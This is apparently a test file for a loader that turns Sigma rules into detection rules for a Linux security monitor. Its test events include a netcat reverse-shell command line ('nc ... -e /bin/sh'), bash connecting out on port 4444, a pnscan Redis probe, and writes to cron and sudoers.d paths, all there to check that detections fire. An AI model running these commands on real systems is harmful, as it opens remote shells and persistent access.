import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Event__Output, Process } from '@mamori/proto';
import { loadSigmaRules } from '../../src/sigma/load-sigma-rules.js';
import type { CompiledRule } from '../../src/rule.js';
import { buildEvent } from '../support/events.js';
import { execEvent, sigmaRule } from './sigma-text.js';

const fixture = (name: string) => ({
  path: `fixtures/${name}`,
  text: readFileSync(new URL(`fixtures/${name}`, import.meta.url), 'utf8'),
});

function only(text: string, path = 'rule.yml'): CompiledRule {
  const set = loadSigmaRules([{ path, text }]);
  expect(set.problems).toEqual([]);
  expect(set.skipped).toEqual([]);
  const [rule] = set.rules;
  if (rule === undefined) throw new Error('no rule compiled');
  return rule;
}

const bash = { pid: 4242, exe: '/bin/bash', args: ['bash', '-i'], user: 'www-data' };
const connect = (remote: string, process: Process = bash): Event__Output =>
  buildEvent({
    network_connect: {
      process,
      connection: {
        protocol: 'L4_PROTOCOL_TCP',
        local_address: '10.0.0.5',
        local_port: 50_123,
        remote_address: remote,
        remote_port: 4444,
      },
    },
  });
const write = (path: string): Event__Output =>
  buildEvent({ file_write: { process: { exe: '/usr/bin/tee' }, path } });

describe('loadSigmaRules on SigmaHQ rules', () => {
  it('fires the cron rule on a new cron file and stays silent on a filtered or other path', () => {
    const rule = only(fixture('cron-file-created.yml').text);
    expect(rule.matches(write('/etc/cron.d/backdoor'))).toBe(true);
    expect(rule.matches(write('/etc/crontab'))).toBe(true);
    expect(rule.matches(write('/etc/cron.daily/apt'))).toBe(false);
    expect(rule.matches(write('/etc/cron.dx/backdoor'))).toBe(false);
  });

  it('fires the reverse shell indicator on bash connecting out, not to loopback', () => {
    const rule = only(fixture('reverse-shell-indicator.yml').text);
    expect(rule.matches(connect('203.0.113.9'))).toBe(true);
    expect(rule.matches(connect('127.0.0.1'))).toBe(false);
    expect(rule.matches(connect('203.0.113.9', { ...bash, exe: '/usr/bin/curl' }))).toBe(false);
  });

  it('fires the pnscan rule on its hex payload pattern, not on other flags', () => {
    const rule = only(fixture('pnscan-binary-transmission.yml').text);
    const run = (args: string[]) => execEvent({ exe: '/usr/bin/pnscan', args });
    expect(rule.matches(run(['pnscan', '-W', '"2a 31 0d"', '10.0.0.0/24', '6379']))).toBe(true);
    expect(rule.matches(run(['pnscan', '-w', '"2a 31 0d"', '10.0.0.0/24', '6379']))).toBe(false);
    expect(rule.matches(run(['pnscan', '-W', '"zz"', '10.0.0.0/24']))).toBe(false);
  });

  it('carries id, name, level, severity, tags and location over from the rule', () => {
    const rule = only(fixture('reverse-shell-indicator.yml').text, 'net/reverse.yml');
    expect(rule).toMatchObject({
      id: 'sigma:83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871',
      name: 'Linux Reverse Shell Indicator',
      source: 'sigma',
      priority: 'critical',
      severity: 'critical',
      tags: ['attack.execution', 'attack.t1059.004'],
      kinds: ['network_connect', 'network_accept'],
      file: 'net/reverse.yml',
      line: 3,
    });
  });
});

describe('loadSigmaRules metadata', () => {
  it('maps each Sigma level to a severity', () => {
    const levels = {
      informational: 'info',
      low: 'low',
      medium: 'medium',
      high: 'high',
      critical: 'critical',
    };
    for (const [level, severity] of Object.entries(levels)) {
      const text = sigmaRule({ detection: 'sel:\n  Image: /x\ncondition: sel' }).replace(
        'level: high',
        `level: ${level}`,
      );
      expect(only(text)).toMatchObject({ priority: level, severity });
    }
  });

  it('falls back to the title for the id', () => {
    expect(
      only(sigmaRule({ title: 'No id here', detection: 'sel:\n  Image: /x\ncondition: sel' })).id,
    ).toBe('sigma:No id here');
  });

  it('renders the title with the values of the fields the rule names', () => {
    const rule = only(
      sigmaRule({
        title: 'Netcat shell',
        detection:
          'sel:\n  Image|endswith: /nc\n  CommandLine|contains: " -e "\n  User: root\ncondition: sel',
      }),
    );
    const event = execEvent({
      exe: '/usr/bin/nc',
      args: ['nc', '1.2.3.4', '9', '-e', '/bin/sh'],
      user: 'root',
    });
    expect(rule.matches(event)).toBe(true);
    expect(rule.render(event)).toBe(
      'Netcat shell (Image=/usr/bin/nc CommandLine=nc 1.2.3.4 9 -e /bin/sh User=root)',
    );
    expect(rule.details(event)).toEqual({
      Image: '/usr/bin/nc',
      CommandLine: 'nc 1.2.3.4 9 -e /bin/sh',
      User: 'root',
    });
  });

  it('leaves fields the event lacks out of the details', () => {
    const rule = only(
      sigmaRule({ detection: 'sel:\n  Image: /x\nf:\n  ParentImage: null\ncondition: sel and f' }),
    );
    const event = execEvent({ exe: '/x' });
    expect(rule.matches(event)).toBe(true);
    expect(rule.details(event)).toEqual({ Image: '/x' });
  });
});

describe('loadSigmaRules event kinds', () => {
  it('offers process_creation rules process executions only', () => {
    const rule = only(sigmaRule({ detection: 'sel:\n  Image|endswith: /curl\ncondition: sel' }));
    expect(rule.kinds).toEqual(['process_exec']);
    expect(rule.matches(connect('1.1.1.1', { exe: '/usr/bin/curl' }))).toBe(false);
    expect(rule.matches(execEvent({ exe: '/usr/bin/curl' }))).toBe(true);
  });

  it('offers file_event rules writes, opens for writing and rename targets', () => {
    const rule = only(
      sigmaRule({
        category: 'file_event',
        detection: 'sel:\n  TargetFilename|startswith: /etc/sudoers.d/\ncondition: sel',
      }),
    );
    expect(rule.kinds).toEqual(['file_write', 'file_open', 'file_rename']);
    const path = '/etc/sudoers.d/evil';
    expect(rule.matches(write(path))).toBe(true);
    expect(rule.matches(buildEvent({ file_open: { process: {}, path, write: true } }))).toBe(true);
    expect(rule.matches(buildEvent({ file_open: { process: {}, path, write: false } }))).toBe(
      false,
    );
    expect(
      rule.matches(
        buildEvent({ file_rename: { process: {}, old_path: '/tmp/x', new_path: path } }),
      ),
    ).toBe(true);
    expect(
      rule.matches(
        buildEvent({ file_rename: { process: {}, old_path: path, new_path: '/tmp/x' } }),
      ),
    ).toBe(false);
    expect(rule.matches(buildEvent({ file_delete: { process: {}, path } }))).toBe(false);
  });

  it('offers network rules connects and accepts, narrowed by what Initiated requires', () => {
    const net = (detection: string) =>
      only(sigmaRule({ category: 'network_connection', detection }));
    expect(net('sel:\n  DestinationPort: 4444\ncondition: sel').kinds).toEqual([
      'network_connect',
      'network_accept',
    ]);
    expect(net("sel:\n  Initiated: 'true'\n  DestinationPort: 4444\ncondition: sel").kinds).toEqual(
      ['network_connect'],
    );
    expect(
      net("sel:\n  Initiated: 'false'\n  DestinationPort: 4444\ncondition: sel").kinds,
    ).toEqual(['network_accept']);
    expect(
      net("sel:\n  DestinationPort: 4444\nf:\n  Initiated: 'false'\ncondition: sel and not f")
        .kinds,
    ).toEqual(['network_connect']);
    expect(
      net("a:\n  Initiated: 'false'\nb:\n  DestinationPort: 1\ncondition: a or b").kinds,
    ).toEqual(['network_connect', 'network_accept']);
  });

  it('skips a network rule whose Initiated value no event has', () => {
    const set = loadSigmaRules([
      {
        path: 'r.yml',
        text: sigmaRule({
          category: 'network_connection',
          detection: "sel:\n  Initiated: 'maybe'\ncondition: sel",
        }),
      },
    ]);
    expect(set.rules).toEqual([]);
    expect(set.skipped[0]?.reason).toMatch(/never hold/);
  });

  it('does not throw on an event whose payload lacks its process', () => {
    const rule = only(
      sigmaRule({
        detection: 'sel:\n  Image|endswith: /sh\nf:\n  User: root\ncondition: sel or not f',
      }),
    );
    const bare = buildEvent({ process_exec: {} });
    expect(rule.matches(bare)).toBe(true);
    expect(rule.render(bare)).toBe('Test rule');
  });
});

describe('loadSigmaRules collections', () => {
  it('merges the global document into the rules after it, with repeat and reset', () => {
    const set = loadSigmaRules([fixture('collection.yml')]);
    expect(set.problems).toEqual([]);
    expect(set.rules.map((r) => [r.id, r.name, r.severity])).toEqual([
      ['sigma:0b6e4a8e-0000-4000-8000-000000000001', 'Shell from a web server', 'high'],
      ['sigma:0b6e4a8e-0000-4000-8000-000000000002', 'Python from a web server', 'high'],
      ['sigma:0b6e4a8e-0000-4000-8000-000000000003', 'Standalone rule after reset', 'low'],
    ]);
    const [shell, python, standalone] = set.rules;
    const child = (exe: string, parent: string) =>
      execEvent({ exe, ancestors: [{ exe: parent, args: [parent] }] });
    expect(shell?.matches(child('/bin/sh', '/usr/sbin/nginx'))).toBe(true);
    expect(shell?.matches(child('/bin/sh', '/usr/sbin/sshd'))).toBe(false);
    expect(python?.matches(child('/usr/bin/python3', '/usr/sbin/httpd'))).toBe(true);
    expect(python?.matches(child('/bin/sh', '/usr/sbin/httpd'))).toBe(false);
    expect(standalone?.tags).toEqual([]);
    expect(standalone?.matches(execEvent({ exe: '/usr/bin/id' }))).toBe(true);
  });
});
